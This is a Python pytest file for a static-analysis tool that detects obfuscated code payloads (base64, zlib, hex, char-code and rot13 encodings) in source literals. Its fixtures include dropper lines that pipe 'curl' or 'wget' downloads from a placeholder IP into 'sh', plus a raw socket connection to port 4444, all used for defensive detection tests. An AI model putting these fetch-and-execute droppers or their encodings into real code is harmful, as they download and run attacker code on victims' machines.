"""Literal payload decoding: a table of literals that must (not) decode, then end to end through Analyzer."""
from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import os
import zlib

import pytest

from codescan.analyze import languages, payloads
from codescan.analyze.document import Analyzer
from codescan.config import Config
from codescan.records import Document

from codescan.analyze.treesitter import compile_rule
from codescan.records import Rule
from codescan.rules import RuleError, RuleSet, builtin_rules_dir, load_rule_file, rule_files

from conftest import SHARED

DROPPER = b'import os\nos.system("curl -s http://203.0.113.5/p | sh")\n'
JS_DROPPER = b"require('child_process').exec('curl -s http://203.0.113.5/p | sh')"
PROSE = b"The quick brown fox jumps over the lazy dog, twice over and again."


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def codes(data: bytes) -> str:
    return ", ".join(str(b) for b in data)


def escaped(data: bytes) -> str:
    return "".join(f"\\x{b:02x}" for b in data)


def find(src: str, language: str = "python") -> list[payloads.Payload]:
    source = src.encode()
    tree = languages.parser(language).parse(source)
    return list(payloads.find(source, tree, language))


# (source, encoding chain or None, looks like code)
PYTHON_CASES = [
    (f'x = "{b64(DROPPER)}"', "base64", True),
    (f'x = "{base64.urlsafe_b64encode(DROPPER + b"??>>").decode()}"', "base64", True),
    (f'x = "{b64(zlib.compress(DROPPER))}"', "base64+zlib", True),
    (f'x = "{b64(gzip.compress(DROPPER, mtime=0))}"', "base64+gzip", True),
    (f'x = "{b64(bz2.compress(DROPPER))}"', "base64+bz2", True),
    (f'x = "{b64(lzma.compress(DROPPER))}"', "base64+lzma", True),
    (f'x = "{zlib.compress(DROPPER).hex()}"', "hex+zlib", True),
    (f'x = "{b64(b64(DROPPER).encode())}"', "base64+base64", True),
    (f'x = bytes.fromhex("{DROPPER.hex()}")', "hex", True),
    (f'x = bytes([{codes(DROPPER)}])', "char-codes", True),
    (f'x = "{escaped(DROPPER)}"', "escapes", True),
    ('x = codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot13")', "rot13", True),
    ('x = codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "rot_13")', "rot13", True),
    # wrapped over lines inside a triple-quoted string, and split over implicit concatenation
    ('x = """\n' + "\n".join(b64(DROPPER * 3)[i:i + 40] for i in range(0, len(b64(DROPPER * 3)), 40)) + '\n"""',
     "base64", True),
    ('x = ("' + b64(DROPPER)[:30] + '"\n     "' + b64(DROPPER)[30:] + '")', "base64", True),
    # decoded text, but not code: scanned, not flagged
    (f'x = "{b64(PROSE)}"', "base64", False),
    # negatives: nothing to decode
    (f'KEY = "{b64(os.urandom(48))}"', None, False),
    (f'KEY = "{os.urandom(32).hex()}"', None, False),
    ('DIGEST = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"', None, False),
    ('ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"', None, False),
    ('name = "test_some_rather_long_function_name_here"', None, False),
    ('doc = "Return the value of the thing, or raise an error when missing."', None, False),
    ('x = codecs.decode("vzcbeg bf; bf.flfgrz(\'vq\')", "utf-8")', None, False),  # not rot13
    ('TABLE = [10, 20, 30, 40, 50, 60, 70, 80, 90, 100]', None, False),
    ('PRIMES = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37]', None, False),
    ('x = bytes([1, 2, 3])', None, False),
    (f'x = f"{b64(DROPPER)}{{y}}"', None, False),  # f-strings are not constant
    (f'x = "{b64(b"short")}"', None, False),
]


@pytest.mark.parametrize("src,encoding,code", PYTHON_CASES, ids=range(len(PYTHON_CASES)))
def test_find_python(src, encoding, code):
    found = find(src)
    if encoding is None:
        assert found == []
        return
    assert len(found) == 1, found
    (payload,) = found
    assert payload.encoding == encoding
    assert payload.looks_like_code is code
    assert payload.line == 1 and payload.end_line == src.count("\n") + 1
    assert "\n" not in payload.preview and len(payload.preview) <= payloads.PREVIEW


JS_CASES = [
    (f'const s = "{b64(JS_DROPPER)}";', "base64", True),
    (f"const s = '{b64(zlib.compress(JS_DROPPER))}';", "base64+zlib", True),
    (f"const s = `{b64(JS_DROPPER)}`;", "base64", True),
    (f"const s = String.fromCharCode({codes(JS_DROPPER)});", "char-codes", True),
    (f"const s = [{codes(JS_DROPPER)}].map(c => String.fromCharCode(c)).join('');", "char-codes", True),
    (f"const s = `{b64(JS_DROPPER)}${{x}}`;", None, False),
    ('const sri = "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8K/uxy9rx7HNQlGYl1kPzQho1wx4JwY8wC";', None, False),
    ("const primes = [2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37];", None, False),
]


@pytest.mark.parametrize("src,encoding,code", JS_CASES, ids=range(len(JS_CASES)))
def test_find_javascript(src, encoding, code):
    for language in ("javascript", "typescript"):
        found = find(src, language)
        if encoding is None:
            assert found == []
            continue
        assert [(p.encoding, p.looks_like_code) for p in found] == [(encoding, code)]


def test_inner_language_is_named_when_it_differs():
    (py_in_js,) = find(f'const s = "{b64(DROPPER)}";', "javascript")
    assert py_in_js.language == "python"
    (sh_in_py,) = find(f'x = "{b64(b"#!/bin/sh" + bytes([10]) + b"wget -qO- http://203.0.113.5/i | sh")}"')
    assert sh_in_py.language == "shell" and sh_in_py.looks_like_code
    (same,) = find(f'x = "{b64(DROPPER)}"')
    assert same.language is None


def test_decoding_is_bounded():
    bomb = zlib.compress(b"A" * (50 * 1024 * 1024))  # 50 MB of text from a few kB
    (payload,) = find(f'x = "{b64(bomb)}"')
    assert len(payload.data) <= payloads.MAX_OUTPUT
    deep = DROPPER
    for _ in range(8):
        deep = b64(deep).encode()
    (payload,) = find(f'x = "{deep.decode()}"')
    assert payload.encoding.count("base64") == payloads.MAX_DEPTH  # stops peeling, reports what it reached
    assert not payload.looks_like_code


def test_common_source_is_skipped_before_any_query():
    src = b"def f(x):\n    return x + 1\n"
    assert list(payloads.find(src, languages.parser("python").parse(src), "python")) == []
    assert list(payloads.find(src, None, "python")) == []
    assert list(payloads.find(src, None, "markdown")) == []


# -- end to end ----------------------------------------------------------------------------
def usable_rules() -> RuleSet:
    """The built-in rules that load and compile: a rule being written elsewhere must not break these
    tests (tests/test_rule_fixtures.py and the loader tests are the ones that fail on it)."""
    chosen: dict[str, Rule] = {}
    for path in rule_files(builtin_rules_dir()):
        try:
            rule = load_rule_file(path)
            if rule.engine == "treesitter":
                for language in rule.languages:
                    if languages.has_grammar(language):
                        compile_rule(rule, language)
        except RuleError:
            continue
        chosen.setdefault(rule.id, rule)
    return RuleSet(tuple(chosen.values()))


RULES = usable_rules()


def analyze(src: str, path: str = "mod.py", select: tuple[str, ...] = ()):
    ruleset = RULES.select(select, ()) if select else RULES
    return Analyzer(ruleset, Config(honour_suppressions=False)).analyze(Document(path=path, content=src.encode()))


def test_decoded_findings_point_at_the_literal():
    inner = b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    src = f'import base64\n\nSTAGE = "{b64(inner)}"\nprint(STAGE)\n'
    findings = analyze(src).findings
    inside = [f for f in findings if f.rule_id == "exec-of-decoded-payload"]
    assert inside and all(f.line == 3 and f.context == "decoded" for f in inside)
    assert "base64" in inside[0].message and "exec(base64.b64decode" in inside[0].decoded
    flagged = [f for f in findings if f.rule_id == "encoded-code-payload"]
    assert [(f.line, f.category, f.severity, f.context) for f in flagged] == [(3, "obfuscation", "high", "decoded")]


def test_encoded_code_payload_flags_a_dropper_no_rule_matches():
    src = f'BLOB = "{b64(b"import socket" + bytes([10]) + b"socket.create_connection((HOST, 4444))")}"\n'
    findings = analyze(src, select=("encoded-code-payload",)).findings
    assert [(f.rule_id, f.line) for f in findings] == [("encoded-code-payload", 1)]
    assert "import socket" in findings[0].decoded


def test_prose_and_keys_are_not_flagged():
    src = (f'GREETING = "{b64(PROSE)}"\nKEY = "{b64(bytes(range(48)))}"\n'
           f'CERT_DIGEST = "{"ab" * 32}"\n')
    assert [f for f in analyze(src).findings if f.context == "decoded"] == []


# -- real samples: GuardDog's fixtures (text only, never run) --------------------------------
GUARDDOG = SHARED / "guarddog" / "sourcecode_fixtures.jsonl"


@pytest.mark.skipif(not GUARDDOG.exists(), reason="shared eval data absent")
def test_guarddog_base64_fixtures():
    rows = [json.loads(line) for line in GUARDDOG.read_text().splitlines()]
    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
    b64_positive = flagged = benign = benign_flagged = 0
    for row in rows:
        if row["language"] not in ("python", "javascript"):
            continue
        ext = ".py" if row["language"] == "python" else ".js"
        analysis = analyzer.analyze(Document(path=row["path"] + ("" if row["path"].endswith(ext) else ext),
                                             content=row["content"].encode()))
        hit = any(f.rule_id == "encoded-code-payload" for f in analysis.findings)
        if row["fixture_kind"] == "benign":
            benign += 1
            benign_flagged += hit
        elif "base64" in row["rule"]:
            b64_positive += 1
            flagged += hit
    print(f"\nguarddog base64 fixtures: {flagged}/{b64_positive} flagged encoded-code-payload; "
          f"benign {benign_flagged}/{benign}")
    assert b64_positive and flagged >= 2  # the third holds "print(1)": too short to be a payload
    assert benign_flagged == 0
